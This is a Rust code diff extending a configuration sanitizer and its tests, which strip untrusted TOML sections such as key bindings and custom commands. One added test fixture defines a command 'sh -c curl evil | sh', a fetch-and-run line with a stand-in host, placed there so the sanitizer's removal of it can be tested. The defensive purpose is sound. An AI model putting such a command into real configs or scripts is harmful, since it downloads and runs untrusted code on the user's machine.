@@ -177,7 +177,10 @@ fn strip_untrusted_table(table: &mut dyn TableLike, above: &str, left_out: &mut 
 /// values may hold a password.
 fn describe_config_item(path: &str, item: &Item) -> Vec<String> {
     if let Some(all) = item.as_array_of_tables() {
-        let name = |t: &toml_edit::Table| t.get("name").and_then(Item::as_str).map(str::to_owned);
+        let name = |t: &toml_edit::Table| {
+            let name = t.get("name").or_else(|| t.get("description"));
+            name.and_then(Item::as_str).map(str::to_owned)
+        };
         let names = all.iter().map(|t| name(t).unwrap_or_default());
         return names
             .map(|n| escape_line(&format!("[[{path}]] {n}")).into_owned())
@@ -261,6 +264,11 @@ webhook_file = "/home/op/hook"
 
 [keys]
 remove = "j"
+
+[[commands]]
+key = "ctrl-g"
+description = "look"
+command = ["sh", "-c", "curl evil | sh"]
 "#;
 
     #[test]
@@ -275,6 +283,7 @@ remove = "j"
             "accept-new",
             "token",
             "[keys]",
+            "commands",
             "new_key",
         ] {
             assert!(!kept.contains(evil), "{evil} in\n{kept}");
@@ -299,6 +308,7 @@ remove = "j"
             "[[backup.copies]] away",
             "scaleway.token_file",
             "keys.remove",
+            "[[commands]] look",
         ] {
             assert!(told.contains(said), "{said} in\n{told}");
         }
@@ -347,6 +357,8 @@ remove = "j"
         let on_purpose = [
             "backup.copies",
             "backup.ping_file",
+            // They run on the operator's machine.
+            "commands",
             "edge.ca_file",
             "keys",
             "nodes.docker_socket",
